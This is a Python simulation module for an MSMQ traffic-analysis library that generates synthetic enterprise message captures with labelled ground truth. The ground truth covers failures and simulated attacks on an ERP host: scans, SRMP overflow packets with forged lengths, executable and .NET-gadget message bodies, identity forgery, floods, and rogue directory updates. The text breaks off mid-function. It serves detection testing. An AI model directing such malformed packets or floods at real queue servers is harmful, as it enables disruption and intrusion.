"""Days of an enterprise: applications with roles, a router, readers, failures and attacks; and their truth.

1. `Rehearsal` plans the actions of applications, programs and attackers; `network` simulates them.
2. Branches send orders over a hub, and the hosts of the center send transactional, signed and encrypted
   messages to each other, and one to two of them, in working hours and less at night.  Programs read the
   queues, some remotely, answer, and stop for hours.  Links break, hosts restart, a queue is closed.  Two
   directory servers replicate.
3. Sensor 0 is beside the hub, through which attackers connect, and the next ones are beside the hosts of the
   center. It also captures the directory servers and remote reads.  Messages that branches without a sensor
   send straight to each other are not captured.
4. Everything is determined by the seed.
"""

from __future__ import annotations

import struct
from collections import Counter
from functools import partial
from ipaddress import IPv4Address
from itertools import pairwise
from math import inf
from random import Random
from typing import TYPE_CHECKING, Any, Final, NamedTuple

import msmq_wire as mw
from msmq_wire import GUID, mqmq, mqqb
from msmq_wire.captures.rows.packets import CLOCK_TOLERANCE
from msmq_wire.machines.session import Message, Settings
from msmq_wire.names.format_names import PrivateName
from msmq_wire.testing.strategies.directory import signed
from msmq_wire.values.enumerations import MESSAGE_CLASS_VALUES
from msmq_wire.values.errors import MsmqWireError, need_within
from msmq_wire.values.numbers import FOREVER

from .connections import Faults
from .network import Host, Network, Sensor
from .remote_reads import Reader
from .replication import Server, handshake, session
from .statements import final_hop, state, worst

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator, Mapping

    from .network import Seal, Seen
    from .statements import Evidence, Letter
    from .truth import Span
    from .wire import Frame

_START: Final = 1_699_833_600  # a Monday, 00:00 UTC
_MINUTE, _HOUR, _DAY = 60.0, 3600.0, 86_400.0
_FLOOD: Final = 320
"""Connections of a flood, in half a minute."""
_MESSAGES: Final = 3200
"""Messages of a flood."""
_COMPARED: Final = 40 * _MINUTE
"""Seconds in which a host has to receive messages before its usual rate is known."""
_REPLICATIONS: Final = 8
"""Sessions of the directory servers."""
_OPENS, _CLOSES, _WORKDAYS = 8, 18, 5
_AT_NIGHT: Final = 0.03
"""The rate of messages out of working hours."""
_CENTER: Final = ("hub", "erp", "billing", "warehouse")
_LEAST, _MOST = len(_CENTER) + 1, 250
_UNITS: Final = {"s": 1.0, "m": _MINUTE, "h": _HOUR, "d": _DAY}
_LONGEST: Final = 366 * _DAY
_AES_256, _MODULUS, _BLOCK = 0x6610, 128, 16


def seconds_of(text: str) -> float:
    """Return the seconds of a duration such as ``7d``, ``12h``, ``30m`` or ``90s``.

    Raises:
        MsmqWireError: The text is not a duration.
    """
    try:
        return float(text[:-1]) * _UNITS[text[-1:]]
    except (KeyError, ValueError):
        raise MsmqWireError(f"expected a duration such as 7d, 12h, 30m or 90s, got {text!r}") from None


class _Application(NamedTuple):
    """The messages of an application.

    Attributes:
        name: The beginning of the labels.
        queue: Number of the queue.
        rate: Messages an hour, in working hours.
        size: The most bytes of a body.
        options: Arguments of `Message`.
        direct: Whether the queue has a direct name, with that of the host.
        seal: Signs or encrypts the packets, if given.
    """

    name: str
    queue: int
    rate: float
    size: int
    options: dict[str, Any]
    direct: bool = False
    seal: Seal | None = None


def _encrypted(packet: mqmq.UserMessage) -> mqmq.UserMessage:
    """Return a message with an encrypted body whose key is random."""
    dice = Random(packet.UserHeader.SentTime)  # noqa: S311  # repeatable on purpose
    key = mqqb.SIMPLEBLOB(sessionKeyAlgorithm=_AES_256, encryptedKey=dice.randbytes(_MODULUS))
    properties = packet.MessagePropertiesHeader
    size = len(properties.MessageBody)
    body = dice.randbytes(size + -size % _BLOCK)
    return mw.replace(
        packet,
        SecurityHeader=mqmq.SecurityHeader(
            Flags=mqmq.SecurityHeaderFlags(EB=1),
            SecurityData=mqmq.SecurityData(EncryptionKey=key.encode()),
        ),
        MessagePropertiesHeader=mw.replace(
            properties, MessageBody=body, PrivacyLevel=5, EncryptionAlgorithm=_AES_256
        ),
    )


_ASKS: Final = dict.fromkeys(
    ("positive_arrival", "positive_receive", "negative_arrival", "negative_receive"), True
)
"""The arguments of `Message` that ask for acknowledgments."""
_OF_BRANCHES: Final = (
    ("erp", _Application("order", 0x11, 10, 3000, {"recoverable": True, "dead_letter": True, **_ASKS})),
    ("erp", _Application("stock query", 0x12, 14, 200, {"reach_queue": 20, "be_received": 60})),
    (
        "warehouse",
        _Application(
            "stocktaking",
            0x13,
            2,
            9000,
            {"recoverable": True, "dead_letter": True, "reach_queue": 600, **_ASKS},
        ),
    ),
    ("billing", _Application("claim", 0x16, 2, 700, {"recoverable": True, **_ASKS}, seal=_encrypted)),
    ("warehouse", _Application("complaint", 0x17, 2, 500, {"dead_letter": True, **_ASKS})),
    ("erp", _Application("reminder", 0x18, 2, 300, {"be_received": 45, **_ASKS})),
    ("erp", _Application("draft", 0x19, 2, 400, {"recoverable": True, **_ASKS})),
)
_OF_CENTER: Final = (
    ("erp", "billing", _Application("invoice", 0x21, 30, 4000,
                                    {"transactional": True, "final_ack": True, "journal": True})),
    ("erp", "warehouse", _Application("shipment", 0x22, 25, 1500,
                                      {"transactional": True, "dead_letter": True, **_ASKS})),
    ("billing", "erp", _Application("payment", 0x23, 12, 800,
                                    {"recoverable": True, "negative_arrival": True, "be_received": 7200},
                                    seal=signed)),
    ("erp", "billing", _Application("payroll", 0x24, 4, 2000,
                                    {"recoverable": True, "positive_receive": True}, seal=_encrypted)),
    ("erp", "billing", _Application("credit note", 0x25, 6, 900, {"recoverable": True}, direct=True)),
    ("warehouse", "erp", _Application("pick list", 0x26, 5, 300, {"be_received": 120, **_ASKS}, direct=True)),
    ("warehouse", "erp", _Application("return", 0x28, 8, 600,
                                      {"transactional": True, "dead_letter": True, "final_ack": True})),
)  # fmt: skip
_TRANSFER: Final = _Application("transfer", 0x14, 3, 400, {"recoverable": True}, direct=True)
"""The messages that branches send straight to the next branch."""
_PRICES: Final = _Application("price list", 0x27, 6, 2500, {**_ASKS, "reach_queue": 60})
_LISTED: Final = ("billing", "warehouse")
"""The hosts that get price lists, of which each has a queue."""
_NOTICES: Final = _Application("notice", 0x29, 6, 500, {**_ASKS, "be_received": 300})
_REFUSES: Final = "branch01"
_NOTIFIED: Final = ("erp", "warehouse", _REFUSES)
"""The hosts that get notices; the last one refuses some."""
_GROUP: Final = GUID(b"price list queue")
"""The distribution list of these queues."""
_TARIFF: Final = 0x15
_WATCH: Final = 4 * _HOUR
"""Seconds in which a link breaks once while messages are under way."""
_OUTAGE: Final = 5
"""Seconds after which messages in transit are sent again."""
_SHORT: Final = 30
"""Seconds in which some messages have to reach their queue."""
_ADMINISTRATION, _ANSWERS = 0x31, 0x32
_CLOSED: Final = frozenset({0x13, 0x22})
"""The numbers of the queues that are closed for a time."""
_REFUSING: Final = {
    0x17: (
        MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_ACCESS_DENIED,
        MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_Q_EXCEED_QUOTA,
        MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_BAD_SIGNATURE,
        None,
    ),
    0x28: (
        MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_BAD_DST_Q,
        MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_ACCESS_DENIED,
        None,
    ),
    _NOTICES.queue: (MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_ACCESS_DENIED, None, None),
}
"""The classes with which queues refuse messages in turn, by the numbers of the queues; None accepts one."""
_UNREAD, _PURGED = 0x18, 0x19
"""The numbers of the queue that no program reads, and of the one that is purged."""
_COLLECTED: Final = 6
"""The most copies that a program moves at once from a host to the hub."""
_FROM_AFAR: Final = frozenset({"stocktaking", "transfer"})
"""The applications whose queues a program on another host reads, once an hour."""
_LOOKS: Final = 3
"""In one of so many hours it leaves the messages in the queues."""


class Outcome(NamedTuple):
    """The outcome of a message; of one to several queues the worst.

    Attributes:
        message: Its identifier, as in the table `messages`.
        source: Name of the host that sent it.
        home: Name of the host with its queue; of several the first.
        destination: Format name of the queue; of several the first.
        queues: Number of its queues; a distribution list counts as one more.
        label: Its label.
        message_class: Number of its class.
        sent_at: Seconds since 1970.
        fate: The fate:  ``received``, ``refused``, ``expired``, ``reached``, ``forwarded`` or
            ``sent``.
        dead_lettered: Whether its sender put it into a dead-letter queue.
        hops: Number of hops that were captured completely.
        sent: How often it was sent over one of these hops; of several the most.
        state: The state in `deliveries` that completely captured packets prove; ``unseen`` if there is no
            such packet of it or about it, and so no row.
        certain: Whether every byte was captured of the sessions in which it was sent, of all packets about
            it, and of its copies; if no answer was captured, of all sessions between these queue managers.
    """

    message: str
    source: str
    home: str
    destination: str
    queues: int
    label: str
    message_class: int
    sent_at: int
    fate: str
    dead_lettered: bool
    hops: int
    sent: int
    state: str
    certain: bool


class Dependency(NamedTuple):
    """The messages that one host sent to a queue.

    Attributes:
        source: Name of the host.
        address: Its IP address.
        queue_manager: GUID of its queue manager.
        home: Name of the host with the queue; empty for a distribution list.
        destination: Format name of the queue.
        messages: Number of messages of which a packet was written to the wire, for this or another queue.
        captured: Number of those of which a packet was captured completely.
        bytes: Size of the packets of these, each once.
        encrypted: Number of these with an encrypted body.
        signed: Number of these with a signature.
    """

    source: str
    address: str
    queue_manager: str
    home: str
    destination: str
    messages: int
    captured: int
    bytes: int
    encrypted: int
    signed: int


class Machine(NamedTuple):
    """A host with a queue manager.

    Attributes:
        machine: Its name.
        address: Its IP address.
        queue_manager: GUID of its queue manager.
        located: Whether the captures prove the address: all bytes of a session with a message.
        named: Whether they prove the name: such a session with a message to a direct name.
    """

    machine: str
    address: str
    queue_manager: str
    located: bool
    named: bool


class RemoteRead(NamedTuple):
    """A message that a program took from a queue of another host.

    Attributes:
        time: Seconds since 1970.
        message: The message.
        queue_manager: GUID of the queue manager that sent it first.
        destination: Format name of the queue.
        home: Name of the host with the queue.
        reader: The GUID by which the program opened the queue.
        address: IP address of the program.
        captured: Whether all bytes of the calls were captured.
    """

    time: float
    message: str
    queue_manager: str
    destination: str
    home: str
    reader: str
    address: str
    captured: bool


class Copy(NamedTuple):
    """A copy of a message that a program moved to the hub.

    Attributes:
        time: Seconds since 1970.
        message: The message.
        source: Name of the host that had the copy.
        to: ``dead-letter`` or ``journal``, as in `deliveries`.
        captured: Whether all bytes of the packet were captured.
    """

    time: float
    message: str
    source: str
    to: str
    captured: bool


class Attack(NamedTuple):
    """An attack.

    Attributes:
        pattern: Id of the pattern in `findings`.
        time: Seconds since 1970.
        src: IP address of the source.
        dst: IP address of the destination; of several the first.
        captured: Whether the captured packets prove it.
    """

    pattern: str
    time: float
    src: str
    dst: str
    captured: bool


class Rehearsal:
    """An enterprise for some time.

    Args:
        duration: Seconds.
        seed: The seed, which determines everything.
        faults: The faults of captures; those of messages and of the directory have no effect.
        managers: Number of queue managers, 5 to 250.
        files: Number of sensors.

    Raises:
        MsmqWireError: A number is out of range.
    """

    def __init__(
        self,
        duration: float,
        *,
        seed: int = 0,
        faults: Faults | None = None,
        managers: int = 12,
        files: int = 4,
    ) -> None:
        need_within("duration", duration, 1, _LONGEST, "1 second to 366 days")
        need_within("managers", managers, _LEAST, _MOST, f"{_LEAST} to {_MOST}")
        need_within("files", files, 1, managers, "1 to the number of queue managers")
        self._random = random = Random(seed)  # noqa: S311  # repeatable on purpose
        self._end = _START + duration
        settings = Settings(insecure_nacks=True)
        branches = [f"branch{number:02d}" for number in range(1, managers - len(_CENTER) + 1)]
        self._names = [*_CENTER, *branches]
        self._closed: tuple[float, float] = (0.0, 0.0)
        self._transactions = Counter[str]()  # of each host
        hosts = [
            Host(
                name,
                IPv4Address(f"10.{0 if name in _CENTER else 1}.0.{index + 1}"),
                GUID(random.randbytes(16)),
                settings,
                self._judge,
            )
            for index, name in enumerate(self._names)
        ]
        for host in hosts:
            for other in hosts:
                if other is not host and (host.name in branches or other.name in branches):
                    host.routes[other.name] = other.name if "hub" in {host.name, other.name} else "hub"
        self._sensors = [
            Sensor(f"sensor{number:02d}", name)
            for number, name in zip(range(files), self._names, strict=False)
        ]
        self._net = Network(
            random, hosts, self._sensors, faults or Faults(), start=_START, latency=(0.0005, 0.02)
        )
        self._net.on_received = self._received
        self._stopped: dict[str, tuple[float, float]] = {}
        self._more = Random(f"{seed} more")  # noqa: S311  # repeatable, and what it decides changes nothing else
        self._attacks: list[tuple[str, float, str, str, Callable[[], bool]]] = []
        self._bodies: dict[str, tuple[str, ...]] = {}
        self._plan_applications(branches)
        self._plan_failures()
        self._plan_attacks(branches)
        self._plan_interfaces(Random(f"{seed} interfaces"))  # noqa: S311  # as above

    def run(self) -> Iterator[Frame | Span]:
        """Yield frames in the order of capture, and spans."""
        yield from self._net.run(self._end)

    # ---------------------------------------------------------------------------------------- plans

    def _judge(self, packet: mqmq.UserMessage) -> int | None:
        begin, end = self._closed
        number = _queue_number(packet)
        if number in _CLOSED and begin <= self._net.now < end:
            return MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_BAD_DST_Q
        classes = _REFUSING.get(number, (None,))
        if number == _NOTICES.queue and self._net.name_of(packet.UserHeader.QueueManagerAddress) != _REFUSES:
            return None
        return classes[packet.UserHeader.MessageID % len(classes)]

    def _moments(self, rate: float) -> Iterator[float]:
        """Yield times at which an application sends, by its rate in working hours."""
        now = float(_START)
        while True:
            now += self._random.expovariate(rate / _HOUR)
            if now >= self._end:
                return
            day, hour = int((now - _START) // _DAY) % 7, (now % _DAY) / _HOUR
            works = day < _WORKDAYS and _OPENS <= hour < _CLOSES
            if works or self._random.random() < _AT_NIGHT:
                yield now

    def _plan_applications(self, branches: list[str]) -> None:
        plans = [(branch, to, application) for branch in branches for to, application in _OF_BRANCHES]
        pairs = [(branch, other, _TRANSFER) for branch, other in pairwise(branches)]
        for source, to, application in (*plans, *_OF_CENTER, *pairs):
            for number, at in enumerate(self._moments(application.rate), 1):
                self._plan_message(at, source, to, application, f"{application.name} {number}")
        for source, application, names in (("erp", _PRICES, _LISTED), ("billing", _NOTICES, _NOTIFIED)):
            for number, at in enumerate(self._moments(application.rate), 1):
                group = _GROUP if application is _PRICES and number % 2 else None
                self._plan_for_several(at, source, application, names, f"{application.name} {number}", group)
        self._plan_reads(branches)
        self._plan_copies()

    def _plan_for_several(
        self,
        at: float,
        source: str,
        application: _Application,
        names: tuple[str, ...],
        label: str,
        group: GUID | None,
    ) -> None:
        """Plan a message to queues of several hosts, or to the distribution list of them."""
        queues = [PrivateName(self._net.hosts[name].identifier, application.queue) for name in names]
        message = Message(
            str(queues[0]),
            bytes(self._random.choices(_LETTERS, k=application.size)),
            label=label,
            admin_queue=self._admin_queue(source, application.options),
            **application.options,
        )
        self._net.at(at, lambda: self._net.distribute(source, message, queues, group))

    def _admin_queue(self, source: str, options: Mapping[str, Any]) -> str:
        """Return the administration queue of a message with these options; empty if none is asked for."""
        return _private(self._net.hosts[source], _ADMINISTRATION) if _ASKS.keys() & options else ""

    def _plan_copies(self) -> None:
        """Plan a program that moves copies from journals and dead-letter queues to the hub once an hour."""
        random = Random(f"{self._more.random()} copies")  # noqa: S311  # repeatable on purpose
        for hour in range(int((self._end - _START) // _HOUR) + 1):
            for name in self._names[1:]:
                at = _START + hour * _HOUR + random.uniform(0.1, 0.9) * _HOUR
                sensor = self._sensors[0].name
                self._net.at(at, partial(self._net.collect, name, "hub", sensor, random, most=_COLLECTED))

    def _plan_reads(self, branches: list[str]) -> None:
        """Plan a program that reads some queues once an hour from another host; at times it only looks."""
        own = Random(f"{self._more.random()} reads")  # noqa: S311  # repeatable on purpose
        reader = Reader("reporting", IPv4Address("10.3.0.9"), GUID(own.randbytes(16)))
        queues = [
            (host, _private(self._net.hosts[host], application.queue))
            for host, application in _OF_BRANCHES
            if application.name in _FROM_AFAR
        ]
        queues += [(name, _direct(name, _TRANSFER)) for name in branches[1:]]
        for hour in range(int((self._end - _START) // _HOUR) + 1):
            for host, queue in queues:
                at = _START + hour * _HOUR + own.uniform(0.6, 0.9) * _HOUR
                sensor = self._sensors[0].name
                read = partial(
                    self._net.read_from_afar,
                    reader,
                    host,
                    queue,
                    sensor,
                    own,
                    ending="looked at" if hour % _LOOKS == 1 else "taken",
                )
                self._net.at(at, read)

    def _plan_message(
        self,
        at: float,
        source: str,
        to: str,
        application: _Application,
        label: str,
        body: bytes | None = None,
    ) -> None:
        origin, target = self._net.hosts[source], self._net.hosts[to]
        size = self._random.randrange(20, application.size)
        more = application.options
        if application.name == "stock query":
            more = {**more, "response_queue": _private(origin, _ANSWERS)}
        if more.get("transactional"):
            self._transactions[source] += 1
            more = {**more, "transaction": self._transactions[source]}
        message = Message(
            _direct(to, application) if application.direct else _private(target, application.queue),
            body if body is not None else bytes(self._random.choices(_LETTERS, k=size)),
            label=label,
            admin_queue=self._admin_queue(source, more),
            **more,
        )
        direct, seal = application.direct, application.seal
        self._net.at(at, lambda: self._net.send(source, to, message, direct=direct, seal=seal))

    def _plan_failures(self) -> None:
        """For every day: a link that breaks, a host that restarts, and a program that does not run."""
        random = self._random
        for day in range(int((self._end - _START) // _DAY) + 1):
            begin = _START + day * _DAY
            working = [begin + random.uniform(_OPENS, _CLOSES) * _HOUR for _ in range(4)]
            branch, host = random.choice(self._names[len(_CENTER) :]), random.choice(self._names[1:])
            outage, down = random.choice((90.0, 1800.0)), random.uniform(60, 400)
            stop = working[2], working[2] + random.uniform(0.2, 3) * _HOUR
            self._net.at(working[0], partial(self._net.break_link, branch, "hub", outage))
            self._net.at(working[1], partial(self._net.restart, host, down))
            self._net.at(working[2], partial(self._stop, random.choice(_CENTER[1:]), stop))
            self._net.at(working[3], partial(self._close, (working[3], working[3] + 2 * _HOUR)))
            self._plan_silence(working[0] - _HOUR / 2, 4 * _SHORT, reach_queue=_SHORT)
        span = self._end - _START
        for number in range(int(span // _WATCH)):
            at = _START + (number + self._more.uniform(0.2, 0.8)) * _WATCH
            self._plan_silence(at, 4 * _SHORT, **_ASKS, reach_queue=_SHORT)
            at = _START + (number + self._more.uniform(0.2, 0.8)) * _WATCH
            self._plan_silence(at, _OUTAGE, recoverable=bool(number % 2))
        for share in (4, 6, 8):
            self._plan_silence(self._end - min(_MINUTE, span) / share, span)

    def _plan_silence(self, at: float, outage: float, **options: Any) -> None:
        """Plan messages of the hub that are in transit when the link breaks.

        They are sent again when it is mended, unless their time has ended by then.
        """
        branch = self._more.choice(self._names[len(_CENTER) :])
        message = Message(
            _private(self._net.hosts[branch], _TARIFF),
            b"tariff",
            label="tariff",
            admin_queue=self._admin_queue("hub", options),
            **options,
        )
        for before in (_MINUTE / 240, 3e-6, 2e-6, 1e-6):  # the first one opens a session
            self._net.at(at - before, lambda: self._net.send("hub", branch, message))
        self._net.at(at, partial(self._net.break_link, branch, "hub", outage))

    def _stop(self, host: str, span: tuple[float, float]) -> None:
        self._stopped[host] = span

    def _close(self, span: tuple[float, float]) -> None:
        self._closed = span

    # --------------------------------------------------------------------------------------- programs

    def _received(self, host: Host, packet: mqmq.UserMessage) -> None:
        """Handle a message in its queue: a program will read it, or its time runs out before."""
        if packet.label.rpartition(" ")[0] in _FROM_AFAR:
            return
        now, stopped = self._net.now, self._stopped.get(host.name, (0.0, 0.0))
        at = now + self._random.expovariate(1 / 3)
        if stopped[0] <= at < stopped[1]:
            at = stopped[1] + self._random.expovariate(1 / 60)
        number = _queue_number(packet)
        if number == _PURGED:
            purged = MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_Q_PURGED
            self._net.at(at + _MINUTE, lambda: self._net.read(host.name, purged, packet))
            return
        if number == _UNREAD:
            at = inf
        lasts = packet.UserHeader.TimeToBeReceived
        due = packet.UserHeader.SentTime + lasts
        if lasts != FOREVER and due < at:
            timeout = MESSAGE_CLASS_VALUES.MQMSG_CLASS_NACK_RECEIVE_TIMEOUT
            self._net.at(due, lambda: self._net.read(host.name, timeout, packet))
            return
        self._net.at(at, lambda: self._read(host, packet))

    def _read(self, host: Host, packet: mqmq.UserMessage) -> None:
        if not host.is_up:
            self._net.at(self._net.now + 60, lambda: self._read(host, packet))
            return
        self._net.read(host.name, MESSAGE_CLASS_VALUES.MQMSG_CLASS_ACK_RECEIVE, packet)
        header = packet.UserHeader
        if header.ResponseQueue is not None and not packet.MessagePropertiesHeader.MessageClass:
            source = self._net.name_of(header.SourceQueueManager)
            answer = Message(
                _private(self._net.hosts[source], _ANSWERS),
                b"in stock",
                label="stock answer",
                correlation=header.SourceQueueManager.bytes_le + header.MessageID.to_bytes(4, "little"),
            )
            self._net.send(host.name, source, answer)

    # ---------------------------------------------------------------------------------------- attacks

    def _plan_attacks(self, branches: list[str]) -> None:
        random = self._random
        span = self._end - _START
        erp = str(self._net.hosts["erp"].ip)

        def moment() -> float:
            return _START + random.uniform(0.1, 0.9) * span

        scanner = f"203.0.113.{random.randrange(1, 80)}"
        at = moment()
        request = _establish(GUID(bytes(8) + b"scanner" + b"\1"))
        scan = self._connect(
            [(at + number, scanner, f"10.0.0.{number + 1}") for number in range(8)], request, random
        )
        self._attacks.append(("scan", at, scanner, "10.0.0.1", scan))
        prober, overflower = (f"203.0.113.{first + random.randrange(40)}" for first in (100, 160))
        self._intrude(("srmp-probe", "no-handshake"), moment(), prober, erp, [(0, _over_http())])
        overflow = _over_http(length=0x7FFF_0000)
        self._intrude(("srmp-overflow", "no-handshake"), moment(), overflower, erp, [(0, overflow)])
        for pattern, body in (("executable-body", _SCRIPT), ("dotnet-gadget", _GADGET)):
            branch, label = random.choice(branches), f"attack {pattern}"
            self._plan_message(moment(), branch, "erp", _OF_BRANCHES[0][1], label, body)
            self._bodies[label] = (pattern,)
        self._plan_wrong_sizes(erp)
        self._plan_repeated_attacks(erp)

    def _plan_wrong_sizes(self, dst: str) -> None:
        """Plan packets whose PacketSize no packet has, or hides a wrong length behind it."""
        random = self._more
        span = self._end - _START
        fuzzer, hider = (f"203.0.113.{first + random.randrange(4)}" for first in (200, 204))
        wrong = "length-beyond-packet"
        size = random.choice((0, 15, 0x40_0001, 0xFFFF_FFFF))
        overflow, probe = _over_http(length=0x7FFF_0000), _over_http()
        for source, data, stated, pattern in (
            (fuzzer, probe, size, "srmp-probe"),
            (hider, overflow, len(overflow) + 8, "srmp-overflow"),
        ):
            at = _START + random.uniform(0.1, 0.9) * span
            bent = data[:8] + struct.pack("<I", stated) + data[12:]
            self._intrude((wrong, pattern, "no-handshake"), at, source, dst, [(0, bent)])

    def _plan_repeated_attacks(self, dst: str) -> None:
        """Plan attacks of several connections: two sources with one identity, and many at once.

        A host that moves to another address and back has one, too, but its connections do not overlap.
        """
        random = self._more
        address, forger, flooder = (f"203.0.113.{first + random.randrange(8)}" for first in (210, 220, 230))
        span = self._end - _START

        def minute() -> float:
            return _START + random.uniform(0.1, 0.8) * span // _MINUTE * _MINUTE

        self._plan_forged_identity(address, forger, dst, minute())
        moving, erp = GUID(random.randbytes(16)), self._net.hosts["erp"]
        for quarter, source in enumerate(("10.4.0.7", "10.4.1.9", "10.4.0.7"), 1):
            at = _START + quarter * span / 4
            packets, sensor = handshake(moving, erp.identifier, at), self._sensors[0].name
            self._net.at(at, partial(self._net.intrude, source, dst, packets, sensor, random))
        begin = minute()
        request = _establish(GUID(bytes(random.randrange(256) for _ in range(16))))
        plan = [(begin + 5 + at / 10, flooder, dst) for at in range(_FLOOD)]
        flood = self._connect(plan, request, random)
        self._attacks.append(("connection-flood", begin + 5, flooder, dst, flood))
        self._plan_directory(minute())
        self._plan_message_flood(minute() + 5)

    def _plan_forged_identity(self, address: str, forger: str, dst: str, begin: float) -> None:
        """Plan two sources that speak for one queue manager; one connects while the other is connected."""
        random, sensor = self._more, self._sensors[0].name
        manager, erp = GUID(random.randbytes(16)), self._net.hosts["erp"].identifier
        packets = handshake(manager, erp, begin)
        captured: list[Callable[[], Seen]] = []

        def connect() -> None:
            visit = self._net.visit(address, dst, sensor, random)
            captured.append(visit.close)
            visit.send(packets[:2])
            self._net.at(begin + 40, lambda: visit.send(packets[2:]))
            self._net.at(begin + 40, visit.close)

        self._net.at(begin, connect)
        other = self._connect([(begin + 20, forger, dst)], packets[0][1], random)

        def is_known() -> bool:
            return self._net.now > begin + 40 and other() and all(capture().whole for capture in captured)

        self._attacks.append(("forged-identity", begin + 20, forger, dst, is_known))

    def _plan_interfaces(self, random: Random) -> None:
        """Plan a computer that connects from a second address while it is connected from the first."""
        sensor, erp = self._sensors[0].name, self._net.hosts["erp"]
        manager, begin = GUID(random.randbytes(16)), _START + random.uniform(0.1, 0.9) * (self._end - _START)

        def connect() -> None:
            visit = self._net.visit("10.4.2.1", str(erp.ip), sensor, random)
            packets, later = (handshake(manager, erp.identifier, at) for at in (begin, begin + 20))
            visit.send(packets[:2])
            self._net.at(
                begin + 20, lambda: self._net.intrude("10.4.2.2", str(erp.ip), later, sensor, random)
            )
            self._net.at(begin + 40, lambda: visit.send(packets[2:]))
            self._net.at(begin + 40, visit.close)

        self._net.at(begin, connect)

    def _plan_message_flood(self, at: float) -> None:
        """Plan a source that sends as many messages to a host at once as it gets in days."""
        random, erp, sensor = self._more, self._net.hosts["erp"], self._sensors[0].name
        source, manager = f"203.0.113.{250 + random.randrange(4)}", GUID(random.randbytes(16))
        whole: list[bool] = []

        def flood() -> None:
            packets = handshake(manager, erp.identifier, at)
            for number in range(1, _MESSAGES + 1):
                packet = mqmq.UserMessage.of(
                    SourceQueueManager=manager,
                    QueueManagerAddress=erp.identifier,
                    MessageID=number,
                    SentTime=int(at),
                    DestinationQueue=_private(erp, _OF_BRANCHES[0][1].queue),
                    MessageBody=b"x",
                )
                packets.append((0, mw.encode(packet)))
            rider = mqmq.SessionHeader(AckSequenceNumber=_MESSAGES)
            packets.append((1, mw.encode(mqqb.SessionAck(SessionHeader=rider))))
            whole.append(self._net.intrude(source, str(erp.ip), packets, sensor, random).whole)

        def is_known() -> bool:
            """Return whether the sensor also captured the usual number of messages of the host."""
            times = [
                row.time
                for letter in self._net.letters
                for row in letter.captured.values()
                if row.what == "carried" and row.hop[1] == "erp" and row.line.endswith(f" {sensor}")
            ]
            return whole == [True] and max(times, default=at) - min(times, default=at) > _COMPARED

        self._net.at(at, flood)
        self._attacks.append(("message-flood", at, source, str(erp.ip), is_known))

    def _plan_directory(self, begin: float) -> None:
        """Plan directory servers that replicate, and a stranger who twice sends changes to one of them."""
        random = self._more
        captured: list[Span] = []
        pec, psc = servers = Server("pec", "10.2.0.1", random), Server("psc", "10.2.0.2", random)
        stranger = Server("stranger", f"203.0.113.{240 + random.randrange(8)}", random)

        def talk(ends: tuple[Server, Server], ways: tuple[int, ...]) -> None:
            packets, (src, dst) = session(ends, ways, self._net.now), (end.ip for end in ends)
            captured.extend(self._net.intrude(src, dst, packets, self._sensors[0].name, random).spans)

        def is_known() -> bool:
            """Return whether captured messages prove which servers send and receive, and which only send."""
            messages = [span for span in captured if span.packet == "UserMessage"]
            sent, received = {span.src for span in messages}, {span.dst for span in messages}
            return stranger.ip in sent and sent & received == {server.ip for server in servers}

        for number in range(_REPLICATIONS):
            at = _START + (self._end - _START) * (number + 0.5) / _REPLICATIONS
            self._net.at(at, partial(talk, servers if number % 2 else (psc, pec), (0, 1)))
        for at in (begin, begin + 20):
            self._net.at(at, partial(talk, (stranger, pec), (0, 0)))
        self._attacks.append(("directory-stranger", begin, stranger.ip, pec.ip, is_known))

    def _connect(
        self, plan: list[tuple[float, str, str]], request: bytes, random: Random
    ) -> Callable[[], bool]:
        """Plan connections that ask for a session; return whether all bytes of all of them were captured."""
        captured: list[bool] = []

        def ask(src: str, dst: str) -> None:
            sensor = self._sensors[0].name
            captured.append(self._net.intrude(src, dst, [(0, request)], sensor, random).whole)

        for at, src, dst in plan:
            self._net.at(at, partial(ask, src, dst))
        return lambda: len(captured) == len(plan) and all(captured)

    def _intrude(
        self, patterns: tuple[str, ...], at: float, src: str, dst: str, packets: list[tuple[int, bytes]]
    ) -> None:
        def intrude() -> None:
            capture = self._net.intrude(src, dst, packets, self._sensors[0].name, self._random)
            for pattern in patterns:
                is_shown = capture.whole and (capture.opened or pattern not in _OPENED)
                self._attacks.append((pattern, at, src, dst, partial(bool, is_shown)))

        self._net.at(at, intrude)

    # ------------------------------------------------------------------------------------------ truth

    def outcomes(self) -> Iterator[Outcome]:
        """Yield the outcome of each message, after `run`."""
        moved: dict[str, list[bool]] = {}
        for copy in self.copies():
            moved.setdefault(copy.message, []).append(copy.captured)
        for copies in self._messages():
            first = copies[0]
            destination, home = next(iter(first.queues.items()))
            stated = [self._stated(letter) for letter in copies]
            captured = [row for letter in copies for row in letter.captured.values()]
            unsent = sum(map(bool, first.queues.values())) - len(copies)
            proved = worst([*stated, *["unseen"] * unsent])
            if proved == "unseen" and any(moved.get(first.message, ())):
                proved = "unknown"  # its copy from a dead-letter queue or a journal was captured
            yield Outcome(
                first.message,
                first.source,
                home,
                destination,
                len(first.queues),
                first.label,
                first.message_class,
                first.sent_at,
                worst([*(letter.fate for letter in copies), *["sent"] * unsent]),
                any(letter.has_been("dead-lettered") for letter in copies),
                len({row.hop for row in captured if row.what == "carried"}),
                max(map(_times_sent, copies)),
                proved,
                all(moved.get(first.message, ()))
                and all(
                    self._is_certain(letter, statements)
                    for letter, statements in zip(copies, stated, strict=True)
                ),
            )

    def _messages(self) -> Iterable[list[Letter]]:
        """Return the copies of each message that were written."""
        messages: dict[str, list[Letter]] = {}
        for letter in self._net.letters:
            messages.setdefault(letter.message, []).append(letter)
        return messages.values()

    def _stated(self, letter: Letter) -> str:
        """Return the state that follows from the captured packets."""
        captured = [*letter.captured.values()]
        return state(letter, captured, self._until(letter, captured))

    def _is_certain(self, letter: Letter, stated: str) -> bool:
        """Return whether all bytes that determine the state of a message were captured."""
        sent = [row for row in letter.passed.values() if row.what == "carried"]
        if letter.passed.keys() - letter.captured.keys() or {row.line for row in sent} & self._net.lost:
            return False
        # Without an answer it may have been sent again in any session of the two.
